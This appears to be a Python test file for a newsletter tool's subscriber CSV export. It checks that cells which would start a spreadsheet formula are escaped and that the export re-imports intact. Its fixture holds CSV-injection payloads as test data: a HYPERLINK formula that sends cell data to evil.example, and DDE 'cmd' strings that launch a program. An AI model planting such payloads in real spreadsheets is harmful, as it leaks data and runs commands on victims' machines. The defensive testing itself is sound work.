"""`digest subscribers export` writes no cell a spreadsheet would run as a formula (OWASP's CSV
injection rule), and what it writes still reads back with `import` exactly."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from click.testing import CliRunner

from digest.cli import main
from digest.store import clean_name, iter_subscribers, open_store

NAMES = {
    "eq@example.com": '=HYPERLINK("https://evil.example/?"&A2,"Click")',
    "plus@example.com": "+1+cmd|' /C calc'!A0",
    "minus@example.com": "-2+3",
    "at@example.com": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab@example.com": "\t=1+2",
    "cr@example.com": "\r=1+2",
    "quoted@example.com": "'=already quoted",
    "plain@example.com": "Ana O'Neil",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _digest(*args: str | Path) -> str:
    result = CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout


def test_an_export_guards_every_cell_that_starts_a_formula_and_reads_back(tmp_path: Path):
    db = tmp_path / "digest.db"
    for email, name in NAMES.items():
        _digest("subscribers", "--db", db, "add", email, "--name", name)
    _digest("subscribers", "--db", db, "add", "=cmd@example.com", "--name", "Address")
    _digest("subscribers", "--db", db, "add", "--name", "Address", "--", "-x@example.com")
    store = open_store(db)  # names kept as they came (a tab or CR first: from an older digest)
    for email, name in NAMES.items():
        store.execute("UPDATE subscribers SET name = ? WHERE email = ?", (name, email))
    store.close()

    out = tmp_path / "list.csv"
    _digest("subscribers", "--db", db, "export", "--out", out)
    with out.open(encoding="utf-8", newline="") as handle:  # newline="": a CR in a cell stays one
        text = handle.read()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(NAMES) + 2
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)
    by_email = {row["email"]: row["name"] for row in rows}
    for email, name in NAMES.items():
        expected = name if email == "plain@example.com" else "'" + name
        assert by_email[email] == expected
    assert by_email["'=cmd@example.com"] == "Address" and by_email["'-x@example.com"] == "Address"
    assert '"\'=HYPERLINK(""https://evil.example/?""&A2,""Click"")"' in text  # guarded cells are quoted
    assert "\nplain@example.com,Ana O'Neil," in text  # the others are written as before

    copy = tmp_path / "copy.db"
    _digest("subscribers", "--db", copy, "import", out)
    original, copied = open_store(db), open_store(copy)
    # (an import folds a name onto one line, so the tab or CR in front goes: names reach To headers)
    assert {(s.email, s.name) for s in iter_subscribers(copied)} == {
        (s.email, clean_name(s.name)) for s in iter_subscribers(original)
    }
    original.close()
    copied.close()
